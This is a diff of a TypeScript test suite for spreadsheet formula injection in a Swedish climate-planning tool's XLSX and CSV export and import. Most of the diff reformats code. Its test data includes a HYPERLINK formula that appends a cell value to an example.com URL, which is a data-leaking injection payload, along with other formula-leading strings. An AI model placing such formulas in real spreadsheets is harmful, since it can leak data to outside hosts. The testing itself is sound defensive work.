@@ -15,7 +15,16 @@ import { managerIn, ok, samplePlan, writeDocument } from '../support/documents';
 import { removeTempDirs, tempDir, useTempDataDir } from '../support/env';
 import { cli } from '../support/processes';
 
-const NAMES = ['=HYPERLINK("http://example.com/?"&A1,"Klicka här")', '+46 90 16 10 00', '-20 % energi i skolor', '@SUM(1+1)', '\tInryckt', '\rRetur', "'Citerad' åtgärd", '=1+1'];
+const NAMES = [
+  '=HYPERLINK("http://example.com/?"&A1,"Klicka här")',
+  '+46 90 16 10 00',
+  '-20 % energi i skolor',
+  '@SUM(1+1)',
+  '\tInryckt',
+  '\rRetur',
+  "'Citerad' åtgärd",
+  '=1+1',
+];
 
 let dir: string;
 let plan: Plan;
@@ -26,7 +35,10 @@ beforeAll(async () => {
   p.actions = p.actions.map((a, i) => (i < NAMES.length ? { ...a, name: NAMES[i], notes: NAMES[NAMES.length - 1 - i] } : a));
   plan = p;
   writeDocument(dir, 'farlig.klimat', p);
-  for (const [cmd, out] of [['export-xlsx', 'farlig.xlsx'], ['export-csv', 'farlig.csv']]) {
+  for (const [cmd, out] of [
+    ['export-xlsx', 'farlig.xlsx'],
+    ['export-csv', 'farlig.csv'],
+  ]) {
     const r = await cli([cmd, join(dir, 'farlig.klimat'), join(dir, out)]);
     expect(r.code).toBe(0);
   }
@@ -66,9 +78,17 @@ describe('formula injection', () => {
       await ok(m, 'document.open', { name: 'farlig.klimat' });
       const staged = present(await ok(m, 'exchange.stage', { from: 'folder', name: 'farlig.csv', purpose: 'table' }));
       const s = staged.sheets[0];
-      const preview = finished(await ok(m, 'exchange.preview', {
-        fileId: staged.fileId, sheet: s.name, kind: 'actions', headerRow: 1, columns: s.suggestions.actions.columns, unit: 'tkr', mode: 'upsert',
-      }));
+      const preview = finished(
+        await ok(m, 'exchange.preview', {
+          fileId: staged.fileId,
+          sheet: s.name,
+          kind: 'actions',
+          headerRow: 1,
+          columns: s.suggestions.actions.columns,
+          unit: 'tkr',
+          mode: 'upsert',
+        }),
+      );
       // Read back, the CSV matches the plan exactly: every row unchanged but the two (name and
       // notes) whose carriage return is now stored as a line break.
       expect(preview).toMatchObject({ problems: [], counts: { add: 0, update: 2, unchanged: plan.actions.length - 2 } });
